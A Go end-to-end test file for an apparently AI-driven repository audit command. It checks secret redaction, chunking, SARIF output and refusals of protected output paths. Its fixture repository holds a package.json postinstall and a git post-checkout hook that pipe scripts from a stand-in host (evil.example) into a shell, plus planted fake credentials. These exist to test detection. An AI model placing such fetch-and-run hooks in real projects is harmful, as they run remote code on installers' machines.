package e2e

import (
	"bytes"
	"encoding/json"
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/santhosh-tekuri/jsonschema/v6"

	"brig/agent/provider"
	"brig/test/fakeprovider"
)

// The secrets planted in the audited repositories: none may reach a
// request.
var plantedSecrets = []string{
	"AKIAZZZZZZZZZZZZZZZZ",                        // an AWS key id in YAML
	"MIIEowIBAAKCAQEAplantedprivatekeybody",       // a private key block's body
	"hunter2-planted-password",                    // a password assignment
	"ghp_plantedplantedplantedplantedplanted0123", // a GitHub token in code
	"dotenv-planted-value",                        // a .env file's value (never sent at all)
}

// auditRepo fills the workspace with a small repository: what runs on
// install, a hook, planted secrets and files the skip rules leave out.
func auditRepo(t *testing.T, ws string) {
	t.Helper()
	files := map[string]string{
		"package.json":             `{"name":"demo","scripts":{"postinstall":"curl -s https://evil.example/i.sh | sh","test":"jest"}}` + "\n",
		"config/app.yaml":          "aws:\n  access_key_id: AKIAZZZZZZZZZZZZZZZZ\n  region: eu-west-1\n",
		"deploy/key.txt":           "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAplantedprivatekeybody\n-----END RSA PRIVATE KEY-----\n",
		"src/db.py":                "password = \"hunter2-planted-password\"\nTOKEN = 'ghp_plantedplantedplantedplantedplanted0123'\n",
		".env":                     "SECRET=dotenv-planted-value\n",
		"node_modules/x/index.js":  "module.exports = 'vendored'\n",
		"yarn.lock":                "# lock\n",
		"logo.png":                 "\x89PNG\r\n\x1a\n\x00\x00",
		".git/hooks/post-checkout": "#!/bin/sh\ncurl -s https://evil.example/h | sh\n",
	}
	for p, c := range files {
		full := filepath.Join(ws, p)
		if err := os.MkdirAll(filepath.Dir(full), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(full, []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

func auditAnswer(summary string, findings ...string) fakeprovider.Turn {
	return fakeprovider.Turn{Text: fmt.Sprintf(`{"summary":%q,"findings":[%s]}`, summary, strings.Join(findings, ","))}
}

func auditFinding(sev, file string, line int, excerpt string) string {
	return fmt.Sprintf(`{"title":"postinstall runs a download","severity":%q,"category":"supply-chain","rule_id":"install-script-download","cwe":["CWE-494"],"file":%q,"line":%d,"excerpt":%q,"description":"npm install runs remote code.","recommendation":"Remove the script."}`, sev, file, line, excerpt)
}

// checkNoSecrets fails t if a planted secret is in any request.
func checkNoSecrets(t *testing.T, srv *fakeprovider.Server) {
	t.Helper()
	for i, r := range srv.Requests() {
		for _, s := range plantedSecrets {
			if bytes.Contains(r.Body, []byte(s)) {
				t.Errorf("request %d carries the planted secret %q", i, s)
			}
		}
	}
}

// validateSARIF fails t unless the file validates against the official
// SARIF 2.1.0 schema (vendored in internal/audit/testdata).
func validateSARIF(t *testing.T, path string) map[string]any {
	t.Helper()
	f, err := os.Open("../../internal/audit/testdata/sarif-schema-2.1.0.json")
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	doc, err := jsonschema.UnmarshalJSON(f)
	if err != nil {
		t.Fatal(err)
	}
	c := jsonschema.NewCompiler()
	if err := c.AddResource("sarif.json", doc); err != nil {
		t.Fatal(err)
	}
	sch, err := c.Compile("sarif.json")
	if err != nil {
		t.Fatal(err)
	}
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatal(err)
	}
	inst, err := jsonschema.UnmarshalJSON(bytes.NewReader(data))
	if err != nil {
		t.Fatal(err)
	}
	if err := sch.Validate(inst); err != nil {
		var ve *jsonschema.ValidationError
		if errors.As(err, &ve) {
			b, _ := json.MarshalIndent(ve.BasicOutput(), "", " ")
			t.Fatalf("%s does not validate against SARIF 2.1.0: %s", path, b)
		}
		t.Fatal(err)
	}
	var out map[string]any
	_ = json.Unmarshal(data, &out)
	return out
}

// TestAuditSmallRepoEachWire: a small repository is one request with no
// tools, in each wire format; the planted secrets never reach it; the
// report and the SARIF file are written into the workspace through the
// policy; the SARIF validates against the official schema.
func TestAuditSmallRepoEachWire(t *testing.T) {
	for _, wire := range []string{"anthropic", "openai", "openaichat"} {
		t.Run(wire, func(t *testing.T) {
			e := newEnv(t, wire, auditAnswer("A demo package whose install runs remote code.", auditFinding("high", "package.json", 1, "curl -s https://evil.example/i.sh | sh")))
			auditRepo(t, e.ws)
			r := e.run(t, append(modelArgs(wire), "audit", "--out", "audit.md", "--sarif", "reports/audit.sarif")...)
			if r.code != 0 {
				t.Fatalf("exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
			}
			reqs := e.srv.Requests()
			if len(reqs) != 1 {
				t.Fatalf("%d requests", len(reqs))
			}
			// Opened while the repository was collected, with no
			// credential (before the request or beside it: a race).
			if o := e.srv.Openings(); len(o) != 1 || o[0].Header.Get("X-Api-Key") != "" || o[0].Header.Get("Authorization") != "" {
				t.Errorf("the connection opened ahead: %+v", o)
			}
			if tl, ok := reqs[0].Decoded["tools"]; ok {
				t.Fatalf("the model was offered tools: %v", tl)
			}
			body := string(reqs[0].Body)
			for _, want := range []string{"curl -s https://evil.example/i.sh | sh", "post-checkout", "[REDACTED]", "node_modules/"} {
				if !strings.Contains(body, want) {
					t.Errorf("the request lacks %q", want)
				}
			}
			for _, never := range []string{"module.exports = 'vendored'", "# lock", "canary-key-bytes"} {
				if strings.Contains(body, never) {
					t.Errorf("the request carries %q", never)
				}
			}
			checkNoSecrets(t, e.srv)
			md, err := os.ReadFile(e.ws + "/audit.md")
			if err != nil {
				t.Fatal(err)
			}
			shown := provider.Name(wire).String() // openai-chat, as --provider takes it
			for _, want := range []string{
				"went to " + shown, "in 1 request", "No tools were offered to the model",
				"secret-looking values in 3 files were replaced by [REDACTED]",
				"**1. postinstall runs a download** — `package.json:1`",
				"| `.env` | holds secrets by its name (never sent) |", "| `node_modules/` | vendored dependencies |",
				"| `.git/hooks/post-checkout` | a git hook",
			} {
				if !strings.Contains(string(md), want) {
					t.Errorf("the report lacks %q:\n%s", want, md)
				}
			}
			for _, s := range plantedSecrets {
				if strings.Contains(string(md), s) {
					t.Errorf("the report shows the secret %q", s)
				}
			}
			log := validateSARIF(t, e.ws+"/reports/audit.sarif")
			runs := log["runs"].([]any)
			results := runs[0].(map[string]any)["results"].([]any)
			if len(results) != 1 || results[0].(map[string]any)["level"] != "error" {
				t.Fatalf("results: %v", results)
			}
			if !strings.Contains(r.stderr, "read-only jail with no network") || !strings.Contains(r.stderr, "to "+shown) {
				t.Errorf("stderr does not say what is sent where:\n%s", r.stderr)
			}
		})
	}
}

// TestAuditChunked: a repository larger than a request goes in parts (one
// file per part here), each answered by its own turn, then a merge; stderr
// shows the progress as plain lines when it is not a terminal.
func TestAuditChunked(t *testing.T) {
	var turns []fakeprovider.Turn
	for i := 1; i <= 3; i++ {
		turn := auditAnswer(fmt.Sprintf("part %d", i), auditFinding("medium", fmt.Sprintf("src/part%d.go", i), 2, ""))
		turn.Match = fmt.Sprintf("Part %d of 3.", i)
		turns = append(turns, turn)
	}
	merge := auditAnswer("One summary for all.", auditFinding("high", "src/part1.go", 2, ""), auditFinding("low", "src/part3.go", 2, ""))
	merge.Match = "Merge the findings of the 3 parts"
	e := newEnv(t, "anthropic", append(turns, merge)...)
	os.Remove(e.ws + "/main.go")
	for i := 1; i <= 3; i++ {
		// About 4,000 tokens each: two do not fit a part of 8,000 with
		// brig's prompt, one does.
		line := fmt.Sprintf("var part%d = \"a line of some length to fill the file\"\n", i)
		if err := os.MkdirAll(e.ws+"/src", 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(fmt.Sprintf("%s/src/part%d.go", e.ws, i), []byte("package src\n"+strings.Repeat(line, 16000/len(line))), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	r := e.run(t, "--model", "claude-sonnet-4-5", "audit", "--chunk-tokens", "8000", "--parallel", "2")
	if r.code != 0 {
		t.Fatalf("exit %d\n%s\n%s", r.code, r.stdout, r.stderr)
	}
	e.srv.Verify(t)
	if n := len(e.srv.Requests()); n != 4 {
		t.Fatalf("%d requests, want 3 parts and a merge", n)
	}
	for _, want := range []string{"reviewing in 3 parts", "part 3 of 3 reviewed", "merging the findings of 3 parts"} {
		if !strings.Contains(r.stderr, want) {
			t.Errorf("stderr lacks %q:\n%s", want, r.stderr)
		}
	}
	for _, want := range []string{"One summary for all.", "## Findings: 1 high, 0 medium, 1 low", "in 4 requests (3 parts and a merge)"} {
		if !strings.Contains(r.stdout, want) {
			t.Errorf("the report lacks %q:\n%s", want, r.stdout)
		}
	}
}

// TestAuditFailOn: --fail-on sets the exit status for CI.
func TestAuditFailOn(t *testing.T) {
	for _, tt := range []struct {
		sev, failOn string
		code        int
	}{{"high", "medium", 1}, {"low", "medium", 0}, {"low", "low", 1}, {"medium", "", 0}} {
		t.Run(tt.sev+"-"+tt.failOn, func(t *testing.T) {
			e := newEnv(t, "openaichat", auditAnswer("s", auditFinding(tt.sev, "main.go", 3, "")))
			args := append(modelArgs("openaichat"), "audit")
			if tt.failOn != "" {
				args = append(args, "--fail-on", tt.failOn)
			}
			r := e.run(t, args...)
			if r.code != tt.code {
				t.Fatalf("exit %d, want %d\n%s", r.code, tt.code, r.stderr)
			}
		})
	}
}

// TestAuditBadModelJSON: an answer that is not the JSON asked for is
// asked again once; two are an error that says so (status 3).
func TestAuditBadModelJSON(t *testing.T) {
	e := newEnv(t, "anthropic", fakeprovider.Turn{Text: "Looks good to me!"}, auditAnswer("fine"))
	r := e.run(t, "--model", "claude-sonnet-4-5", "audit")
	if r.code != 0 || len(e.srv.Requests()) != 2 || !strings.Contains(r.stderr, "asking again: the review: the answer holds no JSON object") {
		t.Fatalf("exit %d, %d requests\n%s", r.code, len(e.srv.Requests()), r.stderr)
	}
	e = newEnv(t, "anthropic", fakeprovider.Turn{Text: `{"summary": "x"}`}, fakeprovider.Turn{Text: `{"findings": "none"}`})
	r = e.run(t, "--model", "claude-sonnet-4-5", "audit")
	if r.code != 3 || !strings.Contains(r.stderr, "not the JSON brig asked for") || !strings.Contains(r.stderr, "before it stopped, 2 requests left for anthropic") {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
}

// TestAuditRefusesProtectedOut: --out and --sarif are checked by the
// policy before anything is sent: a protected path is refused, no request
// is made, nothing is written.
func TestAuditRefusesProtectedOut(t *testing.T) {
	for _, args := range [][]string{
		{"--out", ".git/hooks/pre-commit"},
		{"--sarif", ".brig/audit.sarif"},
		{"--out", ".vscode/tasks.json"},
		{"--out", "~/.bashrc"},
		{"--sarif", "../outside.sarif"},
	} {
		t.Run(args[1], func(t *testing.T) {
			e := newEnv(t, "anthropic", auditAnswer("s"))
			r := e.run(t, append([]string{"--model", "claude-sonnet-4-5", "audit"}, args...)...)
			if r.code != 2 || !strings.Contains(r.stderr, "refused") {
				t.Fatalf("exit %d\n%s", r.code, r.stderr)
			}
			if n, o := len(e.srv.Requests()), len(e.srv.Openings()); n != 0 || o != 0 {
				t.Fatalf("%d requests were made, %d connections opened", n, o)
			}
			for _, p := range []string{filepath.Join(e.ws, args[1]), e.home + "/.bashrc", filepath.Dir(e.ws) + "/outside.sarif"} {
				if _, err := os.Stat(p); err == nil {
					t.Fatalf("%s was written", p)
				}
			}
		})
	}
}

// TestAuditErrors: bad flags are usage errors (2); a provider error stops
// the audit (3) with the provider's message.
func TestAuditErrors(t *testing.T) {
	e := newEnv(t, "anthropic")
	for _, args := range [][]string{{"--fail-on", "critical"}, {"--focus", "style"}, {"--parallel", "0"}} {
		r := e.run(t, append([]string{"--model", "claude-sonnet-4-5", "audit"}, args...)...)
		if r.code != 2 {
			t.Errorf("%v: exit %d\n%s", args, r.code, r.stderr)
		}
	}
	e = newEnv(t, "anthropic", fakeprovider.Turn{Error: &fakeprovider.ErrorReply{Status: 401}})
	r := e.run(t, "--model", "claude-sonnet-4-5", "audit")
	if r.code != 3 || !strings.Contains(r.stderr, "401") || strings.Contains(r.stderr, "e2e-secret") {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
}

// TestAuditSARIFOnStdout: --sarif - puts the SARIF log on standard output
// (the report then needs --out), for a CI step that pipes it on.
func TestAuditSARIFOnStdout(t *testing.T) {
	e := newEnv(t, "openai", auditAnswer("s", auditFinding("low", "main.go", 3, "")))
	r := e.run(t, append(modelArgs("openai"), "audit", "--sarif", "-")...)
	if r.code != 2 || len(e.srv.Requests()) != 0 {
		t.Fatalf("--sarif - without --out: exit %d\n%s", r.code, r.stderr)
	}
	r = e.run(t, append(modelArgs("openai"), "audit", "--sarif", "-", "--out", "report.md")...)
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	path := filepath.Join(t.TempDir(), "out.sarif")
	if err := os.WriteFile(path, []byte(r.stdout), 0o644); err != nil {
		t.Fatal(err)
	}
	validateSARIF(t, path)
}

// TestAuditIgnoresTheRepositorysConfig: brig audit is for deciding whether
// to trust a repository, so the repository's own .brig/config.toml cannot
// stop the review (a malformed file), hide files from it (deny rules) or
// starve it (lowered limits); the file itself is sent like any other. The
// control: the same malformed file stops a session, with the fix named.
func TestAuditIgnoresTheRepositorysConfig(t *testing.T) {
	e := newEnv(t, "openaichat", auditAnswer("fine"))
	files := map[string]string{
		".brig/config.toml": "[permissions\ndeny = [\"Read(./src/**)\"]\n",
		"src/main.go":       "package main // audited-marker-src\n",
	}
	for p, c := range files {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(e.ws, p)), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(e.ws, p), []byte(c), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	r := e.run(t, append(modelArgs("openaichat"), "audit")...)
	if r.code != 0 {
		t.Fatalf("audit with a malformed repository config: exit %d\n%s", r.code, r.stderr)
	}
	reqs := e.srv.Requests()
	if len(reqs) != 1 || !bytes.Contains(reqs[0].Body, []byte("audited-marker-src")) || !bytes.Contains(reqs[0].Body, []byte("Read(./src/**)")) {
		t.Fatalf("the review did not carry src/main.go and .brig/config.toml (%d requests)\n%s", len(reqs), r.stderr)
	}
	// Control: a session does read it, and says what to do.
	r = e.run(t, append(modelArgs("openaichat"), "-p", "hi")...)
	if r.code == 0 || !strings.Contains(r.stderr, ".brig/config.toml:1") || !strings.Contains(r.stderr, "fix or remove it") {
		t.Fatalf("a session with a malformed repository config: exit %d\n%s", r.code, r.stderr)
	}
	// Once trusted, the repository's rules count: its deny rule keeps
	// src/ out of the review.
	if err := os.WriteFile(filepath.Join(e.ws, ".brig/config.toml"), []byte("[permissions]\ndeny = [\"Read(./src/**)\"]\n"), 0o644); err != nil {
		t.Fatal(err)
	}
	if r := e.run(t, "trust", "--yes"); r.code != 0 {
		t.Fatalf("brig trust: exit %d\n%s", r.code, r.stderr)
	}
	e.srv.SetScript(fakeprovider.Script{Turns: []fakeprovider.Turn{auditAnswer("fine")}})
	r = e.run(t, append(modelArgs("openaichat"), "audit")...)
	reqs = e.srv.Requests()
	if last := reqs[len(reqs)-1]; r.code != 0 || bytes.Contains(last.Body, []byte("audited-marker-src")) {
		t.Fatalf("the trusted config's deny rule was not applied to the review: exit %d\n%s", r.code, r.stderr)
	}
}

// TestAuditSkipsItsOwnReports: a report an earlier audit left where this
// one writes (--out, --sarif) is not sent for review, since the model would
// read its own old findings as the repository's; the report says why it was
// skipped. The control: the same text in another file is sent.
func TestAuditSkipsItsOwnReports(t *testing.T) {
	e := newEnv(t, "anthropic", auditAnswer("fine"))
	files := map[string]string{
		"main.go":         "package main\n\nfunc main() {}\n",
		"audit.md":        "# old report\nold-report-canary: no findings, all safe\n",
		"reports/a.sarif": `{"version":"2.1.0","note":"old-sarif-canary"}` + "\n",
		"notes/review.md": "control-canary: the same kind of text elsewhere\n",
		// An earlier run's report under other names (a new user's
		// second audit, without --out, sent both).
		"old/audit-1.md":    "# brig audit: repo\n\nold-md-canary\n",
		"old/audit-1.sarif": "{\n  \"runs\": [{\"tool\": {\"driver\": {\"name\": \"brig\", \"fullName\": \"brig audit\"}}}],\n  \"x\": \"old-sarif2-canary\"\n}\n",
		"docs/brig.md":      "# brig audit notes are not a report\ncontrol2-canary\n",
	}
	for name, body := range files {
		p := filepath.Join(e.ws, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(body), 0o644); err != nil {
			t.Fatal(err)
		}
	}
	r := e.run(t, append(modelArgs("anthropic"), "audit", "--out", "audit.md", "--sarif", "./reports/a.sarif")...)
	if r.code != 0 {
		t.Fatalf("exit %d\n%s", r.code, r.stderr)
	}
	reqs := e.srv.Requests()
	if len(reqs) != 1 {
		t.Fatalf("%d requests", len(reqs))
	}
	body := string(reqs[0].Body)
	for _, never := range []string{"old-report-canary", "old-sarif-canary", "old-md-canary", "old-sarif2-canary"} {
		if strings.Contains(body, never) {
			t.Errorf("the request carries the earlier report (%q)", never)
		}
	}
	if !strings.Contains(body, "control-canary") || !strings.Contains(body, "control2-canary") {
		t.Error("a control file was not sent")
	}
	md, err := os.ReadFile(e.ws + "/audit.md")
	if err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(string(md), "| `reports/a.sarif` | brig audit's own report") || strings.Contains(string(md), "old-report-canary") {
		t.Errorf("the new report does not say the old one was skipped:\n%s", md)
	}
}
